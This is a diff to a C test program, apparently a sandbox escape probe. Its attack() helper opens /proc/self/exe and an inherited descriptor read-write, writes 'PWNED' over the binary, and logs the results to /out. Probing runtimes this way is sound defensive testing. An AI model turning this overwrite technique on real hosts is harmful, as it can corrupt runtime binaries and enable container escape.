@@ -24,6 +24,7 @@
 #define SYS_dup2 33
 #define SYS_execve 59
 #define SYS_exit 60
+#define SYS_rename 82
 #define SYS_readlink 89
 #define SYS_prctl 157
 
@@ -43,12 +44,6 @@ static long sys6(long n, long a, long b, long c, long d) {
   return ret;
 }
 #define sys3(n, a, b, c) sys6(n, (long)(a), (long)(b), (long)(c), 0)
-
-static long len(const char *s) {
-  long n = 0;
-  while (s[n]) n++;
-  return n;
-}
 
 static int same(const char *a, const char *b) {
   while (*a && *a == *b) a++, b++;
@@ -70,11 +65,17 @@ static void putnum(char *buf, long *at, long v) {
   while (i > 0 && *at < 4000) buf[(*at)++] = tmp[--i];
 }
 
-static void save(const char *path, const char *buf, long n) {
-  long fd = sys3(SYS_open, path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+/* Writes /out/<name> whole: through /out/tmp and a rename, so the test never reads half of it. */
+static void save(const char *name, const char *buf, long n) {
+  char path[64] = "/out/";
+  long at = 5;
+  put(path, &at, name);
+  path[at] = 0;
+  long fd = sys3(SYS_open, "/out/tmp", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
   if (fd < 0) return;
   sys3(SYS_write, fd, buf, n);
   sys3(SYS_close, fd, 0, 0);
+  sys3(SYS_rename, "/out/tmp", path, 0);
 }
 
 static void line_link(char *buf, long *at, const char *name, const char *path) {
@@ -90,26 +91,29 @@ static void line_link(char *buf, long *at, const char *name, const char *path) {
   put(buf, at, "\n");
 }
 
+/* A "<key> <value>" line. */
+static void line_num(char *buf, long *at, const char *key, long v) {
+  put(buf, at, key);
+  putnum(buf, at, v);
+  put(buf, at, "\n");
+}
+
+/* Opens path read-write ("<key> <fd or -errno>"), and if that works writes over its start ("<key>-write <n>"), then "<key>-link". */
+static void attack(char *buf, long *at, const char *key, const char *write_key, const char *link_key, const char *path) {
+  long rw = sys3(SYS_open, path, O_RDWR | O_CLOEXEC, 0);
+  line_num(buf, at, key, rw);
+  if (rw >= 0) line_num(buf, at, write_key, sys3(SYS_write, rw, "PWNED", 5));
+  line_link(buf, at, link_key, path);
+}
+
 static void stage1(void) {
   char buf[4096];
   long at = 0;
   sys6(SYS_prctl, PR_SET_PDEATHSIG, 0, 0, 0);
-  long rw = sys3(SYS_open, "/proc/self/exe", O_RDWR | O_CLOEXEC, 0);
-  put(buf, &at, "exe ");
-  putnum(buf, &at, rw);
-  put(buf, &at, "\n");
-  if (rw >= 0) {
-    long w = sys3(SYS_write, rw, "PWNED", 5);
-    put(buf, &at, "exe-write ");
-    putnum(buf, &at, w);
-    put(buf, &at, "\n");
-  }
-  line_link(buf, &at, "exe-link ", "/proc/self/exe");
+  attack(buf, &at, "exe ", "exe-write ", "exe-link ", "/proc/self/exe");
   long fd = sys3(SYS_open, "/proc/self/exe", O_PATH, 0);
-  put(buf, &at, "opath ");
-  putnum(buf, &at, fd);
-  put(buf, &at, "\n");
-  save("/out/stage1", buf, at);
+  line_num(buf, &at, "opath ", fd);
+  save("stage1", buf, at);
   if (fd >= 0 && fd != KEPT_FD) {
     sys3(SYS_dup2, fd, KEPT_FD, 0);
     sys3(SYS_close, fd, 0, 0);
@@ -122,7 +126,7 @@ static void stage1(void) {
 static void stage2(void) {
   char buf[4096];
   long at = 0;
-  save("/out/ready", "", 0);
+  save("ready", "", 0);
   struct { long sec, nsec; } tick = {0, 100000000};
   for (int i = 0; i < 1200; i++) {
     long go = sys3(SYS_open, "/out/go", O_CLOEXEC, 0);
@@ -132,18 +136,8 @@ static void stage2(void) {
     }
     sys3(SYS_nanosleep, &tick, 0, 0);
   }
-  line_link(buf, &at, "fd-link ", "/proc/self/fd/9");
-  long rw = sys3(SYS_open, "/proc/self/fd/9", O_RDWR | O_CLOEXEC, 0);
-  put(buf, &at, "fd ");
-  putnum(buf, &at, rw);
-  put(buf, &at, "\n");
-  if (rw >= 0) {
-    long w = sys3(SYS_write, rw, "PWNED", 5);
-    put(buf, &at, "fd-write ");
-    putnum(buf, &at, w);
-    put(buf, &at, "\n");
-  }
-  save("/out/result", buf, at);
+  attack(buf, &at, "fd ", "fd-write ", "fd-link ", "/proc/self/fd/9");
+  save("result", buf, at);
 }
 
 void entry(long *sp) {
